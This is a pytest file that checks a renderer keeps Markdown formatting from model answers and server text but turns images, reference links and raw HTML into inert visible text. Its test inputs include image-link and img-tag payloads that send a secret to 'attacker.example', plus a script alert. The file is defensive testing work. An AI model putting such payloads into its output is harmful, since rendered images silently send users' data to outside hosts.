"""Server and model text rendered as Markdown: formatting kept, nothing that loads."""
import re

import pytest

from lib.safe_text import PLACEHOLDER, model_markdown, plain

ATTACKER = "http://attacker.example/?q=secret"


@pytest.mark.parametrize("answer, visible", [
    (f"Mira: ![gato]({ATTACKER})", f"{PLACEHOLDER} gato `{ATTACKER}`"),
    (f'![x]({ATTACKER} "title")', f"{PLACEHOLDER} x `{ATTACKER}`"),
    (f"![x](<{ATTACKER}>)", f"{PLACEHOLDER} x `{ATTACKER}`"),
    (f"![]({ATTACKER})", f"{PLACEHOLDER} `{ATTACKER}`"),
    ("![logo][1]\n\n[1]: " + ATTACKER, f"{PLACEHOLDER} logo"),
    ("![a [nested] alt](http://a.example/x.png)", f"{PLACEHOLDER} a \\[nested\\] alt `http://a.example/x.png`"),
])
def test_images_in_an_answer_become_visible_text(answer, visible):
    shown = model_markdown(answer)
    assert visible in shown and "![" not in shown


def test_a_reference_definition_defines_nothing():
    shown = model_markdown(f"![logo][img]\n\n[img]: {ATTACKER}\n")
    assert f"\\[img]: {ATTACKER}" in shown


@pytest.mark.parametrize("html", [f'<img src="{ATTACKER}">', f"<picture><source srcset='{ATTACKER}'>",
                                  f"<{ATTACKER}>", "<script>alert(1)</script>"])
def test_raw_html_is_shown_as_text(html):
    shown = model_markdown(f"Hola {html} chau")
    assert "<" not in shown


def test_formatting_and_code_are_kept():
    answer = ("# Título\n\n- **uno**\n- `![x](http://in.code)`\n\n```html\n<img src=\"http://in.block\">\n"
              "![y](http://in.block)\n```\n\n[un enlace](https://ollama.com) y 3 < 4")
    shown = model_markdown(answer)
    assert shown.startswith("# Título\n\n- **uno**\n- `![x](http://in.code)`")
    assert "```html\n<img src=\"http://in.block\">\n![y](http://in.block)\n```" in shown
    assert "[un enlace](https://ollama.com) y 3 &lt; 4" in shown


def test_an_unclosed_fence_keeps_the_rest_as_code():
    assert model_markdown("```\n![x](http://a)\n") == "```\n![x](http://a)\n"


@pytest.mark.parametrize("server_text", ["0.33.0 ![v](http://attacker.example/v.png)",
                                         "gemma`](http://attacker.example)` ![x](http://attacker.example)",
                                         ":red[big] :material/home: $x$ <b>bold</b> *it* _u_ # h",
                                         "line one\nline two"])
def test_plain_escapes_every_markdown_character(server_text):
    shown = plain(server_text)
    assert not re.search(r"(?<!\\)[!\[\]()`*_<>:$#]", shown)
    assert "\n" not in shown
    assert re.sub(r"\\(.)", r"\1", shown) == server_text.replace("\n", " ")


@pytest.mark.parametrize("answer", ["![a [b [c]]](http://attacker.example/x)", "![ref]\n\n[ref]: http://attacker.example",
                                    "[![inner](http://attacker.example/i)](https://ollama.com)",
                                    "![x]\n(http://attacker.example)", "\\![x](http://attacker.example)",
                                    "\\<img src=http://attacker.example>"])
def test_no_image_syntax_survives_in_any_shape(answer):
    shown = model_markdown(answer)
    assert "![" not in shown and "<" not in shown
